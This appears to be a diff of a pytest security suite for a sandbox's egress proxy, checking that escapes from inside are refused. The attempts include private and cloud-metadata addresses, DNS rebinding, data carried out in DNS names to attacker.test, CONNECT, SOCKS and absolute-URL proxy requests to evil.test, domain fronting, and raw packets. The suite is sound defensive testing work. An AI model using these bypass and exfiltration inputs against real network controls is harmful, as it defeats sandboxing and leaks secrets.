@@ -1,4 +1,5 @@
-"""Ways around the policy (CASES B) and to the credentials (CASES C), tried from inside."""
+"""Ways around the policy (CASES B) and to the credentials (CASES C), tried from inside, in a namespace
+whose only uplink is captured: when all was tried, nothing has left but to the upstreams of the test."""
 import contextlib
 import errno
 import os
@@ -10,13 +11,64 @@ import pytest
 
 import harness
 import upstream as u
+from client_h2 import Client
+from uplink import CONTROL, GATEWAY, Uplink
 
-TOKEN_MARK = b"demo-"
+NAMED, DIRECT = "198.51.100.10", "1.2.3.4"  # a rule's upstream; what the resolver says of a name
+BUNDLE = "/etc/ssl/certs/ca-certificates.crt"
+DIRECT_HOSTS = ("direct.test", "mixed.test", "rebind.test")
+PRIVATE = {"private-0.test": "127.0.0.1", "private-1.test": "169.254.169.254", "private-2.test": "10.0.0.1",
+           "private-3.test": "fe80::1", "private-4.test": "::1", "private-5.test": "::ffff:10.0.0.1",
+           "private-6.test": "100.64.0.2", "private-7.test": GATEWAY, "private-8.test": "fd00:ec2::254"}
 
 
 @pytest.fixture(scope="module")
-def server(namespace, folder):
-    server = u.Upstream(namespace, folder)
+def uplink():
+    """The way out. At the end nobody else's packets may have been on it."""
+    uplink = Uplink()
+    uplink.resolver.names = {**{name: [address] for name, address in PRIVATE.items()},
+                             "direct.test": [DIRECT], "mixed.test": ["10.0.0.1", DIRECT, "fd00::1"],
+                             "rebind.test": [[DIRECT], ["127.0.0.1", GATEWAY]]}
+    uplink.upstreams = set()
+    yield uplink
+    strangers = uplink.strangers(uplink.upstreams)
+    uplink.close()
+    assert len(uplink.upstreams) == 2 and not strangers, strangers[:20]
+
+
+@pytest.fixture(scope="module")
+def namespace(uplink):
+    return uplink.inside
+
+
+@pytest.fixture(scope="module")
+def demo(folder, namespace):
+    demo = harness.Demo(namespace, folder / "bypass-demo")
+    yield demo
+    demo.close()
+
+
+@pytest.fixture(scope="module")
+def make_daemon(folder, namespace, demo, image_store):
+    with harness.daemons(folder, namespace, demo, image_store) as make:
+        yield make
+
+
+@pytest.fixture(scope="module")
+def server(uplink, folder):
+    server = u.Upstream(uplink.outside, folder, address=NAMED)
+    uplink.upstreams.add((NAMED, server.port))
+    yield server
+    server.close()
+
+
+@pytest.fixture(scope="module")
+def direct(uplink, folder):
+    """Reached without an `upstream`: by its name's address, under one of the system's CAs."""
+    server = u.Upstream(uplink.outside, folder, name="direct", hosts=DIRECT_HOSTS, address=DIRECT, port=443)
+    server.routes["/closed"] = lambda _s, sock, _r: sock.sendall(
+        b"HTTP/1.1 200 OK\r\nconnection: close\r\ncontent-length: 0\r\n\r\n")
+    uplink.upstreams.add((DIRECT, 443))
     yield server
     server.close()
 
@@ -33,17 +85,23 @@ def secret(folder):
 
 
 @pytest.fixture(scope="module")
-def box(make_daemon, server, secret):
+def box(make_daemon, server, direct, secret, folder):
     rules = [server.rule("u.test", "u-ca.pem"), server.rule("get.test", "u-ca.pem", methods=["GET"]),
              server.rule("only.test", "u-ca.pem", path="/v1/acct/gw"),
              server.rule("secret.test", "u-ca.pem", headers={
                  "remove": ["x-api-key"], "set": {"authorization": "Bearer ${secret:MARK}"}}),
-             {"name": "loop", "host": "localhost.test"}]
+             *({"name": host, "host": host} for host in (*DIRECT_HOSTS, *PRIVATE))]
     daemon = make_daemon(default_agent="sh", extra_rules=rules, secrets_dir=str(secret[0]), start=False)
     (daemon.folder / "policy/u-ca.pem").write_bytes(open(server.ca, "rb").read())
+    bundle, resolver = folder / "bypass-bundle.pem", folder / "bypass-resolv.conf"
+    bundle.write_bytes(open(BUNDLE, "rb").read() + open(direct.ca, "rb").read())
+    resolver.write_text(f"nameserver {GATEWAY}\n")
+    daemon.namespace = harness.Mounted(daemon.namespace, {BUNDLE: bundle, "/etc/resolv.conf": resolver})
     daemon.start()
     sandbox = daemon.sandbox("bypass")
     assert sandbox.clone().status == 200
+    for host in ("u.test", "direct.test"):  # what is allowed is seen to leave
+        assert ask(sandbox, get("/", host), host)[0] == 200
     yield sandbox
     sandbox.remove()
 
@@ -225,28 +283,26 @@ def test_b6_addresses_without_a_name_are_refused_clearly(box):
         context.wrap_socket(box.connect("", 443, address="192.0.2.7"))
 
 
-@pytest.mark.parametrize("address", ["127.0.0.1", "169.254.169.254", "10.0.0.1", "fe80::1", "::1",
-                                     "::ffff:10.0.0.1", "100.64.0.2"])
-def test_b7_private_addresses_are_refused_when_connecting(make_daemon, server, address):
-    """The name is allowed; /etc/hosts of the daemon's own mount namespace gives it the address."""
-    daemon = make_daemon(default_agent="sh", extra_rules=[{"name": "b7", "host": "b7.test"}], start=False)
-    hosts = daemon.folder / "hosts"
-    hosts.write_text(f"{address} b7.test\n")
-    inner = daemon.namespace
-    class WithHosts:
-        @staticmethod
-        def argv(*command):
-            return inner.argv("unshare", "-m", "--", "/bin/sh", "-c",
-                              f'mount --bind {hosts} /etc/hosts && exec "$@"', "sh", *command)
-    daemon.namespace = WithHosts
-    daemon.start()
-    sandbox = daemon.sandbox("b7")
-    sandbox.exec("/bin/true")
-    before = server.connections
-    status, headers, body = ask(sandbox, get("/", "b7.test"), "b7.test")
-    assert status in (403, 502) and address.split("%")[0] in (body.decode() + str(headers)) or \
-        "not public" in body.decode() + str(headers), (status, headers, body)
-    assert server.connections == before
+@pytest.mark.parametrize("host", PRIVATE)
+def test_b7_private_addresses_are_refused_when_connecting(box, direct, host):
+    """The name is allowed, and the resolver gives it such an address."""
+    before = direct.connections
+    status, headers, body = ask(box, get("/", host), host)
+    assert status == 403 and "not public" in body.decode() and headers["x-should-retry"] == "false", body
+    assert direct.connections == before
+
+
+def test_b7_of_a_names_addresses_only_public_ones_are_tried(box, direct):
+    assert ask(box, get("/mixed", "mixed.test"), "mixed.test")[::2] == (200, b"/mixed")
+    assert direct.seen("/mixed")
+
+
+def test_b7_a_name_that_leads_elsewhere_the_next_time_is_refused_then(box, direct):
+    raw = get("/closed", "rebind.test")
+    assert ask(box, raw, "rebind.test")[0] == 200
+    status, _, body = ask(box, raw, "rebind.test")
+    assert status == 403 and b"not public" in body, body
+    assert len(direct.seen("/closed")) == 1
 
 
 def test_b8_spellings_of_a_host(box, server):
@@ -346,3 +402,138 @@ def test_c4_an_answer_header_with_the_secret_is_dropped(box, server, secret):
     status, headers, _ = ask(box, get("/c4", "secret.test"), "secret.test")
     assert status == 200 and headers.get("x-other") == "kept" and "x-echo" not in headers
     assert secret[1] not in str(headers)
+
+
+# ------------------------------------------------------------------------------ what the capture is for
+
+LITERALS = ((socket.AF_INET, (DIRECT, NAMED, GATEWAY, "169.254.169.254", "10.0.0.1", "8.8.8.8")),
+            (socket.AF_INET6, ("2606:4700:4700::1111", "fd00:1::1", "fd00:ec2::254", "::ffff:1.2.3.4")))
+
+
+def in_network(box, work):
+    network = box.network()
+    try:
+        return harness.in_namespace(network, work)
+    finally:
+        os.close(network)
+
+
+def test_the_capture_sees_what_leaves(uplink):
+    """From the daemon's side, to where nobody may: by name servers' and web servers' ports, and ICMP."""
+    for number in range(3):
+        uplink.send_control(b"mark %d" % number)
+
+    def send():
+        with socket.socket() as sock:
+            sock.connect_ex((CONTROL, 443))  # a reset comes back
+        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
+            sock.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (CONTROL, 0))
+    harness.in_namespace(uplink.inside.fd, send)
+    uplink.seen(protocol="tcp", target=CONTROL, port=443)
+    uplink.seen(protocol="ip 1", target=CONTROL)
+
+
+def test_b6_literal_addresses_lead_nowhere(box, server):
+    """Any port, TCP and UDP; where egress listens it answers itself, and refuses."""
+    def attempts():
+        tried = {}
+        for family, addresses in LITERALS:
+            for address in addresses:
+                for port in (22, 853, 1080, 3128, 8443, server.port):
+                    with socket.socket(family) as sock:
+                        sock.settimeout(harness.patient(5))
+                        tried[address, port] = sock.connect_ex((address, port))
+                for port in (80, 123, 443, 1900, 5353, server.port):
+                    with socket.socket(family, socket.SOCK_DGRAM) as sock:
+                        sock.connect((address, port))
+                        sock.send(b"\xc3\x00\x00\x00\x01\x08" + bytes(1200))  # as QUIC begins
+        return tried
+    assert set(in_network(box, attempts).values()) == {errno.ECONNREFUSED}
+    for family, addresses in LITERALS:
+        for address in addresses:
+            for named in (address, "u.test", "evil.test"):
+                answer = plain(box, get("/literal", named), named, address=address, family=family)
+                assert re.match(rb"HTTP/1.1 (400|403|421) ", answer), answer
+    assert not server.seen("/literal")
+
+
+def test_b6_broadcasts_groups_and_raw_packets_stay_inside(box):
+    """With more rights than a sandbox has: raw sockets of the machine's root in its network."""
+    def send():
+        for family, kind, protocol, target in (
+                (socket.AF_INET, socket.SOCK_DGRAM, 0, ("255.255.255.255", 67)),
+                (socket.AF_INET, socket.SOCK_DGRAM, 0, ("224.0.0.251", 5353)),
+                (socket.AF_INET, socket.SOCK_DGRAM, 0, ("239.255.255.250", 1900)),
+                (socket.AF_INET6, socket.SOCK_DGRAM, 0, ("ff02::fb", 5353)),
+                (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, (DIRECT, 0)),
+                (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6, ("2606:4700:4700::1111", 0)),
+                (socket.AF_INET, socket.SOCK_RAW, 47, (DIRECT, 0)),   # GRE
+                (socket.AF_INET, socket.SOCK_RAW, 132, (DIRECT, 0))):  # SCTP
+            with socket.socket(family, kind, protocol) as sock, contextlib.suppress(OSError):
+                if family == socket.AF_INET:
+                    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+                sock.sendto(b"\x08\x00\xf7\xff" + bytes(28), target)
+    in_network(box, send)
+
+
+@pytest.mark.parametrize("transport", ["udp", "tcp"])
+def test_b5_names_that_carry_data_carry_it_nowhere(box, transport):
+    labels = ".".join(["a" * 63, "b" * 63, "c" * 63])
+
+    def ask_all():
+        for name in (f"{labels}.{'d' * 40}.attacker.test", "x.u.test", "direct.test.attacker.test",
+                     "4.3.2.1.in-addr.arpa", "metadata.google.internal", "attacker"):
+            for kind in (1, 5, 10, 16, 28, 33, 255):
+                for name_server in ("1.1.1.1", GATEWAY):
+                    harness.dns_query(name, kind, name_server, transport)
+    in_network(box, ask_all)
+
+
+PROXIES = {
+    "CONNECT": b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n",
+    "CONNECT to an address": b"CONNECT 1.2.3.4:443 HTTP/1.1\r\nHost: 1.2.3.4:443\r\n\r\n",
+    "CONNECT to an upstream": b"CONNECT u.test:443 HTTP/1.1\r\nHost: u.test:443\r\n\r\n",
+    "absolute form": b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
+    "absolute form of https": b"GET https://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
+    "absolute form behind a good Host": b"GET https://evil.test/ HTTP/1.1\r\nHost: u.test\r\n\r\n",
+    "a path that is a URL": b"GET //evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
+    "authority form": b"GET evil.test:443 HTTP/1.1\r\nHost: u.test\r\n\r\n",
+    "WebSocket": b"GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
+                 b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
+    "SOCKS4": b"\x04\x01\x01\xbb\x01\x02\x03\x04\x00\r\n\r\n", "SOCKS5": b"\x05\x01\x00\r\n\r\n",
+    "PROXY": b"PROXY TCP4 1.2.3.4 1.2.3.4 1 443\r\nGET / HTTP/1.1\r\nHost: u.test\r\n\r\n",
+}
+
+
+@pytest.mark.parametrize("raw", PROXIES.values(), ids=PROXIES.keys())
+def test_b13_egress_is_no_proxy(box, server, raw):
+    before = len(server.requests)
+    for answer in (plain(box, raw, "u.test"), box.request("u.test", raw)):
+        assert re.match(rb"HTTP/1.1 (400|403|405|421|501|505) |$", answer), answer
+    assert len(server.requests) == before
+
+
+@pytest.mark.parametrize("sni, host", [("u.test", "evil.test"), ("evil.test", "u.test"),
+                                       ("u.test", "get.test"), ("u.test", "direct.test"),
+                                       ("cloudflare-dns.com", "cloudflare-dns.com")])
+@pytest.mark.parametrize("alpn", ["h2", "http/1.1"])
+def test_b4_fronting_and_coalescing_are_refused(box, server, direct, sni, host, alpn):
+    """Also where both are allowed, and the upstream's certificate is for both."""
+    before = len(server.requests) + len(direct.requests)
+    if alpn == "h2":
+        with Client(box, sni) as client:
+            status = client.ask("/fronted", authority=host)["status"]
+            assert sni == "evil.test" or sni == host or client.ask("/b4-own")["status"] == 200
+    else:
+        status = ask(box, get("/fronted", host), sni)[0]
+    assert status == (403 if sni == host else 421)
+    assert len(server.requests) + len(direct.requests) - before in (0, 1)
+    assert not server.seen("/fronted") and not direct.seen("/fronted")
+
+
+def test_b2_a_redirect_is_the_clients_to_follow(box, server):
+    server.routes["/moved"] = lambda _s, sock, _r: sock.sendall(
+        b"HTTP/1.1 302 Found\r\nlocation: https://evil.test/x\r\nalt-svc: h3=\":443\"\r\n"
+        b"content-length: 0\r\n\r\n") or "keep"
+    status, headers, _ = ask(box, get("/moved", "u.test"), "u.test")
+    assert (status, headers["location"]) == (302, "https://evil.test/x")
